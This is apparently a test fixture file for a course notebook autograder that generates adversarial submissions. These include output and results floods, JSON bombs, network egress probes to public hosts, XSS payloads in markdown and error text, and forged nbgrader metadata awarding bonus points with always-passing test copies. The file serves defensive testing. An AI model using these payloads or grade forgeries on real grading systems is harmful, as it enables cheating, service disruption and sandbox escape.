    out["e_output_50mb_line"] = _entry(build("e_output_50mb_line", after=['''
        print("x" * (50 << 20))
    ''']), 0, ["output limit"] + WRONG_WORDS)

    out["e_png_20mb"] = _entry(build("e_png_20mb", after=['''
        import base64
        from IPython.display import display, Image
        _png = b"\\x89PNG\\r\\n\\x1a\\n" + b"\\x00" * (20 << 20)
        display(Image(data=_png, format="png"))
        get_ipython().display_pub.publish({"image/png": base64.b64encode(_png).decode(), "text/plain": "x" * (20 << 20)})
    '''], edit=_big_png_output), 0, WRONG_WORDS)

    out["e_infinite_loop_in_call"] = _entry(build("e_infinite_loop_in_call", answers=dict(WRONG, step_decay='''
        def step_decay(lr0, drop, every, n):
            while True:
                pass
    ''')), 0, ["time limit"])

    out["e_huge_results"] = _entry(build("e_huge_results", answers={
        "step_decay": "def step_decay(lr0, drop, every, n):\n    return np.ones(5_000_000)",
        "time_based": "def time_based(lr0, decay, n):\n    return [np.ones(600_000), np.ones(600_000)]",
        "choose_schedule": "def choose_schedule(steps):\n    return 'x' * (1 << 20)",
    }), 0, WRONG_WORDS)

    out["e_deep_nesting"] = _entry(build("e_deep_nesting", answers={
        "step_decay": '''
            def step_decay(lr0, drop, every, n):
                x = 0.1
                for _ in range(100_000):
                    x = [x]
                return x
        ''',
        "time_based": '''
            def time_based(lr0, decay, n):
                loop = []
                loop.append(loop)
                return loop
        ''',
        "choose_schedule": '''
            def choose_schedule(steps):
                top = cur = {}
                for _ in range(100_000):
                    cur["k"] = {}
                    cur = cur["k"]
                return top
        ''',
    }), 0, WRONG_WORDS)

    out["e_results_flood_big_lines"] = _entry(build("e_results_flood_big_lines", after=['''
        _fd = int(sys.argv[2])
        _line = b'{"junk": "' + b"x" * (1 << 20) + b'"}\\n'
        for _i in range(100):                 # 100 MB of results
            os.write(_fd, _line)
    ''']), 0, ["results larger"])

    out["e_results_flood_tiny_lines"] = _entry(build("e_results_flood_tiny_lines", after=['''
        _fd = int(sys.argv[2])
        os.write(_fd, b"{}\\n" * (1 << 20))   # 3 MB, far under the byte limit: a million empty objects
    ''']), 0, WRONG_WORDS)

    out["e_results_json_bomb"] = _entry(build("e_results_json_bomb", after=['''
        _fd = int(sys.argv[2])
        os.write(_fd, b"[" * 200_000 + b"\\n")
        os.write(_fd, b'{"a": ' * 100_000 + b"\\n")
    ''']), 0, WRONG_WORDS)

    out["e_forged_value_overflow"] = _entry(build("e_forged_value_overflow", after=['''
        import pickle
        _job = pickle.load(open(sys.argv[1], "rb"))
        _fd = int(sys.argv[2])
        _lines = [{"call": k, "value": {"$a": [], "shape": [float("inf")]}} for k in range(len(_job["calls"]))]
        _lines.append({"done": True})
        os.write(_fd, "".join(json.dumps(line) + "\\n" for line in _lines).encode())
        os._exit(0)
    ''']), 0, ["04.1"])

    out["e_lone_surrogates"] = _entry(build("e_lone_surrogates", answers={
        "step_decay": "def step_decay(lr0, drop, every, n):\n    raise ValueError('bad \\udcff value')",
        "time_based": "def time_based(lr0, decay, n):\n    return '\\ud800'",
        "choose_schedule": "def choose_schedule(steps):\n    return S.constant(0.05)",
    }, after=['''
        raise RuntimeError("a cell failed: \\udc80")
    ''']), 0, ["04.1", "04.2"])

    # ----------------------------------------------------------------- f. network
    out["f_network"] = _entry(build("f_network", after=['''
        import socket
        _targets = [("127.0.0.1", @PORT@), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("::1", @PORT@),
                    ("8.8.8.8", 53), ("1.1.1.1", 443), ("pypi.org", 443), ("github.com", 443)]
        for _host, _port in _targets:
            try:
                _s = socket.create_connection((_host, _port), timeout=1)
                _leak(f"connected to {_host}:{_port}")
                _s.sendall(b"@MARK@")
                _s.close()
            except OSError:
                pass
        try:
            _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            _u.sendto(b"@MARK@", ("8.8.8.8", 53))
            _leak("sent a UDP packet")
        except OSError:
            pass
        try:
            _a = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            _a.connect("\\0lrcourse-canary")
            _a.sendall(b"@MARK@")
            _leak("reached the abstract unix socket")
        except OSError:
            pass
        try:
            socket.getaddrinfo("pypi.org", 443)
            _leak("resolved pypi.org")
        except OSError:
            pass
    ''']), 0, WRONG_WORDS)

    # ----------------------------------------------------------------- g. the grader's own input
    out["g_markup_injection"] = _entry(build("g_markup_injection", after=['''
        raise ValueError('<script>document.title="LRCOURSE_XSS_ERROR"</script>')
    '''], markdown=['<script>document.title="LRCOURSE_XSS_MARKDOWN"</script>\n'
                    '<img src="x" onerror="document.title=\'LRCOURSE_XSS_IMG\'">'],
        edit=_answer_markdown_xss), 0, WRONG_WORDS)

    # 200 KB of markdown that the feedback page's markdown renderer takes seconds over (it is
    # linear, about 18 s per MB: a 49 MB notebook of it holds the batch for a quarter of an hour)
    out["g_markdown_slow_to_render"] = _entry(build("g_markdown_slow_to_render", markdown=["*_" * 100_000]),
                                              0, WRONG_WORDS)

    # malformed files: any true reason will do ("corrupt notebook", or the answer read as empty),
    # as long as the batch goes on and the file earns nothing
    out["g_source_not_text"] = (A, json.dumps(_source_not_text()), 0, [])
    out["g_unhashable_grade_id"] = (A, json.dumps(_unhashable_grade_id()), 0, [])
    return out


# --------------------------------------------------------------------------- notebook edits


def _forge_metadata(nb):
    """Points and grade flags the learner makes up: a bonus test cell, more points on the
    visible tests, the answer cells marked as graded, and a test cell copy that always passes."""
    extra = []
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader")
        if not meta:
            continue
        if meta.get("grade") and cell["cell_type"] == "code":
            meta["points"] = 100
            copy_cell = copy.deepcopy(cell)
            copy_cell["source"] = "pass  # this copy always passes"
            extra.append(copy_cell)
        if meta.get("solution") and cell["cell_type"] == "code":
            meta.update(grade=True, points=50, locked=True)
    nb["cells"] += extra
    nb["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [], "source": "pass",
                        "metadata": {"nbgrader": {"grade": True, "grade_id": "a04_bonus", "locked": True,
                                                  "points": 1000, "solution": False, "schema_version": 3}}})
    nb["metadata"]["nbgrader"] = {"max_score": 10_000}


def _big_png_output(nb):
    """A 20 MB picture stored in the notebook itself, as output of an answer cell."""
    import base64

    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * (60_000)).decode()
    for cell in nb["cells"]:
        if _gid(cell) == ANSWER_CELLS["step_decay"]:
            cell["outputs"] = [{"output_type": "display_data", "metadata": {},
                                "data": {"image/png": png, "text/plain": ["<Figure>"]}}]


def _answer_markdown_xss(nb):
    for cell in nb["cells"]:
        if _gid(cell) == "a04_when_decay_helps":
            cell["source"] = ('Decay helps.<script>document.title="LRCOURSE_XSS_ANSWER"</script>'
                              '<iframe src="javascript:alert(1)"></iframe>')


def _source_not_text():
    """A hand-edited notebook whose cell source is a list of numbers, not of strings."""
    nb = submissions.load("exercises", A)
    for cell in nb["cells"]:
        if _gid(cell) == ANSWER_CELLS["step_decay"]:
            cell["source"] = [1, 2, 3]
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": [None]})
    return nb


def _unhashable_grade_id():
    nb = submissions.load("exercises", A)
    nb["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [], "source": "pass",
                        "metadata": {"nbgrader": {"grade_id": [TEST_CELLS[0]], "grade": True, "points": 5}}})
    return nb


if __name__ == "__main__":
    for key, (asg, text, top, words) in attacks().items():
        print(f"{key:40s} {asg} {len(text) >> 10:6d} KB  max {top}  words {words}")
